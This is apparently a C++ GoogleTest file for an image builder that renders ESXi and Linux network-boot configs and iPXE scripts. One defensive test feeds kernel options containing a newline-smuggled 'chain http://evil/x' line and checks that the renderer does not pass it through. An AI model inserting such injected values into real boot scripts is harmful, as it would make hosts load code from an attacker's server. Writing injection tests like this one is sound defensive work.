#include "imagebuilder/host_render.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "imagebuilder/boot_cfg.h"

namespace midwife::imagebuilder {
namespace {

using ::testing::HasSubstr;
using ::testing::StartsWith;

ImageManifest Esxi() {
  ImageManifest m;
  m.ref = {"esxi", "8.0u2"};
  m.kind = ImageKind::kEsxi;
  m.title = "ESXi 8.0U2";
  m.kernelopt = "runweasel cdromBoot";
  m.kernel = {"b.b00", BlobDigest::Of("kernel"), 6, ""};
  m.modules = {{"jumpstrt.gz", BlobDigest::Of("j"), 1, ""}, {"s.v00", BlobDigest::Of("s"), 1, ""}};
  return m;
}

HostBootContext Host() {
  return {*MacAddress::Parse("00:50:56:aa:bb:01"), "http://192.0.2.1:8080", "mwh1-abc", 1,
          BlobDigest::Of("manifest"), true};
}

TEST(HostRender, BootCfgCarriesBankIdentityServerAndStateLast) {
  std::string text = RenderHostBootCfg(Esxi(), Host());
  EXPECT_THAT(text, StartsWith("bootstate=1\n"));
  auto cfg = ParseBootCfg(text);
  ASSERT_TRUE(cfg.ok()) << cfg.status();
  EXPECT_EQ(cfg->prefix, "http://192.0.2.1:8080/images/" + BlobDigest::Of("manifest").hex());
  EXPECT_THAT(cfg->kernelopt, HasSubstr("runweasel cdromBoot"));
  EXPECT_THAT(cfg->kernelopt, HasSubstr("PBHOST=192.0.2.1:8080"));
  EXPECT_THAT(cfg->kernelopt, HasSubstr("MIDWIFE_MAC=00:50:56:aa:bb:01"));
  EXPECT_THAT(cfg->kernelopt, HasSubstr("MIDWIFE_TOKEN=mwh1-abc"));
  ASSERT_EQ(cfg->modules.size(), 3u);
  EXPECT_EQ(cfg->modules.back().path, "http://192.0.2.1:8080/boot/00-50-56-aa-bb-01/state.tgz");
}

TEST(HostRender, IsDeterministic) {
  EXPECT_EQ(RenderHostBootCfg(Esxi(), Host()), RenderHostBootCfg(Esxi(), Host()));
  EXPECT_EQ(RenderIpxeScript(Esxi(), Host(), Firmware::kBios),
            RenderIpxeScript(Esxi(), Host(), Firmware::kBios));
}

TEST(HostRender, HostWithoutStateGetsNoStateModule) {
  HostBootContext host = Host();
  host.has_state = false;
  EXPECT_THAT(RenderHostBootCfg(Esxi(), host), ::testing::Not(HasSubstr("state.tgz")));
}

TEST(HostRender, EsxiWithMbootChainsItWithTheHostsBootCfg) {
  ImageManifest m = Esxi();
  m.modules.push_back({"mboot.efi", BlobDigest::Of("mboot"), 5, ""});
  std::string script = RenderIpxeScript(m, Host(), Firmware::kUefi);
  EXPECT_THAT(script, StartsWith("#!ipxe\n"));
  EXPECT_THAT(script, HasSubstr("/mboot.efi -c http://192.0.2.1:8080/boot/00-50-56-aa-bb-01/boot.cfg\n"));
}

TEST(HostRender, EsxiChainsTheImagesLoaderForItsFirmware) {
  ImageManifest m = Esxi();
  m.loaders = {{"mboot.c32", BlobDigest::Of("c32"), 3, ""},
               {"bootx64.efi", BlobDigest::Of("bx"), 2, ""},
               {"mboot.efi", BlobDigest::Of("me"), 2, ""}};
  const std::string folder = "http://192.0.2.1:8080/images/" + BlobDigest::Of("manifest").hex();
  const std::string cfg = " -c http://192.0.2.1:8080/boot/00-50-56-aa-bb-01/boot.cfg\n";
  EXPECT_THAT(RenderIpxeScript(m, Host(), Firmware::kUefi),
              HasSubstr("chain " + folder + "/mboot.efi" + cfg));
  EXPECT_THAT(RenderIpxeScript(m, Host(), Firmware::kBios),
              HasSubstr("chain " + folder + "/mboot.c32" + cfg));
  m.loaders.pop_back();  // no mboot.efi: the UEFI fallback name
  const std::string uefi = RenderIpxeScript(m, Host(), Firmware::kUefi);
  EXPECT_THAT(uefi, HasSubstr("chain " + folder + "/bootx64.efi" + cfg));
  EXPECT_THAT(uefi, ::testing::Not(HasSubstr("module ")));
}

TEST(HostRender, EsxiWithoutMbootLoadsMultibootModulesFromIpxe) {
  std::string script = RenderIpxeScript(Esxi(), Host(), Firmware::kBios);
  EXPECT_THAT(script, HasSubstr("kernel http://192.0.2.1:8080/images/"));
  EXPECT_THAT(script, HasSubstr("/b.b00 runweasel cdromBoot MIDWIFE_MAC="));
  EXPECT_THAT(script, HasSubstr("module http://192.0.2.1:8080/boot/00-50-56-aa-bb-01/state.tgz\nboot\n"));
}

TEST(HostRender, LinuxImageGetsKernelInitrdsAndStateOverlayLast) {
  ImageManifest m;
  m.ref = {"standin", "1"};
  m.kind = ImageKind::kLinux;
  m.kernelopt = "console=ttyS0";
  m.kernel = {"vmlinuz", BlobDigest::Of("k"), 1, ""};
  m.modules = {{"initrd.cpio.gz", BlobDigest::Of("i"), 1, ""}};
  std::string script = RenderIpxeScript(m, Host(), Firmware::kBios);
  EXPECT_THAT(script, HasSubstr("/vmlinuz console=ttyS0 MIDWIFE_MAC=00:50:56:aa:bb:01"));
  EXPECT_THAT(script, HasSubstr("initrd.cpio.gz\ninitrd http://192.0.2.1:8080/boot/00-50-56-aa-bb-01/state.cpio.gz\nboot\n"));
}

TEST(HostRender, LinuxImageOnUefiNamesItsInitrdsForTheEfiStub) {
  ImageManifest m;
  m.ref = {"standin", "1"};
  m.kind = ImageKind::kLinux;
  m.kernel = {"vmlinuz", BlobDigest::Of("k"), 1, ""};
  m.modules = {{"initrd.cpio.gz", BlobDigest::Of("i"), 1, ""}};
  std::string script = RenderIpxeScript(m, Host(), Firmware::kUefi);
  EXPECT_THAT(script, HasSubstr("MIDWIFE_TOKEN=mwh1-abc initrd=initrd.cpio.gz initrd=state.cpio.gz\n"));
  HostBootContext no_state = Host();
  no_state.has_state = false;
  EXPECT_THAT(RenderIpxeScript(m, no_state, Firmware::kUefi), HasSubstr("MIDWIFE_TOKEN=mwh1-abc initrd=initrd.cpio.gz\n"));
  EXPECT_THAT(RenderIpxeScript(m, Host(), Firmware::kBios), ::testing::Not(HasSubstr("initrd=")));
}

TEST(HostRender, NewlinesInOptionsCannotInjectScriptLines) {
  ImageManifest m = Esxi();
  m.kernelopt = "a\nchain http://evil/x";
  std::string script = RenderIpxeScript(m, Host(), Firmware::kBios);
  EXPECT_THAT(script, ::testing::Not(HasSubstr("\nchain http://evil")));
}

}  // namespace
}  // namespace midwife::imagebuilder
